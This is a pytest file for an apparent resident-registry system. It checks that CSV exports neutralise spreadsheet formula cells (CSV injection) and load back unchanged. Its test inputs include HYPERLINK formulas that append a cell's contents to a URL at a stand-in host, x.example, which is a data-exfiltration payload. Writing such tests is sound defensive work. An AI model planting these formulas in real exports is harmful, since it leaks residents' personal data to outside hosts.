"""CSV exports escape cells a spreadsheet would run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from onecity.core import csvout
from onecity.core.db import Database
from onecity.hub.registries.export import ExportFormat, ExportKind, write_export
from onecity.hub.registries.identifiers import make_resident_id
from onecity.hub.registries.load import read_records
from onecity.hub.registries.models import Person
from tests.conftest import SYSTEM, TIANPINGLU


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"点击")', '\'=HYPERLINK("http://x.example/?"&A1,"点击")'),
        ("+8613800000000", "'+8613800000000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("天平路 1 号", "天平路 1 号"),
        ("a=b", "a=b"),
        (-3.5, -3.5),
        (-7, -7),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
    ],
)
def test_formula_cells_are_escaped_and_numbers_are_not(value: object, written: object) -> None:
    assert csvout.escape_cell(value) == written
    if isinstance(written, str):
        assert csvout.unescape_cell(written) == value


def test_registry_export_escapes_formula_cells_and_loads_back(db: Database, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x.example/?"&C2,"查看")'
    with db.transaction() as s:
        s.add(
            Person(
                id=1,
                id_number=make_resident_id("310104", date(1990, 1, 2), 11),
                name="@王",
                sex="M",
                birth_date=date(1990, 1, 2),
                hukou_region="310104",
                division_code=TIANPINGLU,
                address=evil,
                phone="-1380000000",
            )
        )
    out = io.StringIO()
    with db.transaction() as s:
        assert write_export(s, SYSTEM, ExportKind.PERSONS, ExportFormat.CSV, out, destination="test") == 1
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["address"] == "'" + evil and rows[0]["name"] == "'@王" and rows[0]["phone"] == "'-1380000000"
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(csvout.FORMULA_STARTS), cell
    path = tmp_path / "persons.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    ((_, loaded),) = list(read_records(path))
    assert isinstance(loaded, dict) and loaded["address"] == evil and loaded["name"] == "@王"


def test_no_csv_is_written_past_the_shared_writer() -> None:
    """A new export that opens its own ``csv.writer`` would write formula cells unescaped."""
    import onecity

    root = Path(onecity.__file__).parent
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "csvout.py" and ("csv.writer(" in (text := p.read_text(encoding="utf-8")) or "DictWriter(" in text)
    ]
    assert offenders == [], f"write CSV through onecity.core.csvout.writer: {offenders}"
